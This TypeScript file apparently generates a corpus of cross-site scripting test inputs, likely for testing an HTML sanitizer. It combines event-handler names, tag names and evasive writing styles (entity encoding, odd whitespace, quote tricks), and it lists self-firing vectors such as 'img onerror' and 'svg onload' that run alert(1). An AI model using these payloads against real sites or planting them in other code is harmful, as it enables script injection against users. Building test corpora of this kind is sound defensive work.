import { around, each } from './combine.ts';

/** Event handler content attributes: HTML's, those of SVG and of animation, and what older browsers had. */
const NAMES = (
  'onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart ' +
  'onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute ' +
  'onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose ' +
  'oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut ' +
  'ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend ' +
  'onended onerror onfilterchange onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ' +
  'ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onlayoutcomplete ' +
  'onload onloadeddata onloadedmetadata onloadstart onlostpointercapture onmessage onmousedown onmouseenter ' +
  'onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onmove onoffline ononline onpagehide ' +
  'onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave ' +
  'onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onpropertychange ' +
  'onratechange onreadystatechange onrepeat onreset onresize onrowsenter onscroll onscrollend onscrollsnapchange ' +
  'onscrollsnapchanging onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart ' +
  'onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ' +
  'ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection ' +
  'onunload onvolumechange onwaiting onwebkitanimationend onwebkitanimationstart onwebkittransitionend onwheel onzoom'
).split(' ');

/** How a handler may be written into a tag: `on` stands for its name. */
const WRITINGS: readonly ((element: string, on: string) => string)[] = [
  (element, on) => `<${element} ${on}=alert(1)>a`,
  (element, on) => `<${element} ${on.toUpperCase()} = "alert(1)">a`,
  (element, on) => `<${element}/${on}='alert(1)'/>a`,
  (element, on) => `<${element} title="b"${on}=alert(1) class=c>a`,
  (element, on) => `<${element}\n\f${on}\t=\r\n'alert(1)'>a`,
  (element, on) => `<${element} ${on}=&#97;&#x6c;&#x0065;rt&lpar;1&rpar;>a`,
  (element, on) => `<${element} ${on}=\`alert(1)\`>a`,
  (element, on) => `<${element} "${on}=alert(1)" ${on}=alert(1)>a`,
  (element, on) => `<${element} =${on}=alert(1) ${on}=alert(1)//>a`,
  (element, on) => `<${element} ${on}=alert(1) ${on}=void(0)>a`,
  (element, on) => `<${element} a='>' ${on}=alert(1)>a`,
  (element, on) => `<${element} a=">"${on}=alert(1) b='>a`,
  (element, on) => `<${element.toUpperCase()} ${on}=alert(1)>a</${element}>`,
  (element, on) => `<${element} ${on}=alert(1) <p>a`,
];

const ELEMENTS = (
  'p div span a b td table center font img h1 li blockquote pre marquee details body html style title button input form ' +
  'video audio svg math object embed iframe frameset select textarea keygen isindex dialog custom-x abc'
).split(' ');

/** Handlers that a browser calls by itself, without a reader's help. */
const SELF_FIRING = [
  '<img src=x onerror=alert(1)>',
  '<img src=x: onerror=alert(1) //',
  '<img/src/onerror=alert(1)>',
  '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== onload=alert(1)>',
  '<img srcset=x onerror=alert(1)>',
  '<picture><source srcset=x><img onerror=alert(1)></picture>',
  '<body onload=alert(1)>',
  '<p>a<body onload=alert(1)>',
  '<html onpageshow=alert(1)>',
  '<style onload=alert(1)></style>',
  '<style onload=alert(1)>p{color:red}',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1)>',
  '<svg/onload=alert(1)//',
  '<video><source onerror=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<video autoplay onloadstart=alert(1) src=x></video>',
  '<details open ontoggle=alert(1)>a',
  '<marquee onstart=alert(1)>a',
  '<marquee loop=1 width=0 onfinish=alert(1)>a',
  '<input autofocus onfocus=alert(1)>',
  '<a href="#" autofocus onfocus=alert(1) tabindex=1>a</a>',
  '<p autofocus tabindex=0 onfocus=alert(1)>a',
  '<p contenteditable autofocus onfocus=alert(1)>a',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<iframe onload=alert(1)>',
  '<iframe src=about:blank onload=alert(1)></iframe>',
  '<object data=x onerror=alert(1)></object>',
  '<embed src=x onload=alert(1)>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  '<script src=x onerror=alert(1)></script>',
  '<frameset onload=alert(1)><frame>',
  '<p style="animation:a 1s" onanimationstart=alert(1)>a<style>@keyframes a{from{top:0}}</style>',
  '<p style="animation:a 1s" onwebkitanimationstart=alert(1)>a<style>@-webkit-keyframes a{from{top:0}}</style>',
  '<p onscrollend=alert(1) style="overflow:scroll">a',
  '<div popover id=a onbeforetoggle=alert(1)>a</div><button popovertarget=a>b</button>',
  '<dialog open onclose=alert(1)><form method=dialog><button>a</button></form></dialog>',
  '<p oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">a',
];

export const handlers: readonly string[] = [
  ...SELF_FIRING,
  ...around(
    NAMES,
    each(WRITINGS, ELEMENTS, (write, element) => [write, element] as const),
    (name, [write, element]) => write(element, name),
  ).slice(0, 180),
  ...around(ELEMENTS, WRITINGS, (element, write, turn) =>
    write(element, NAMES[(turn * 7) % NAMES.length] as string),
  ),
];
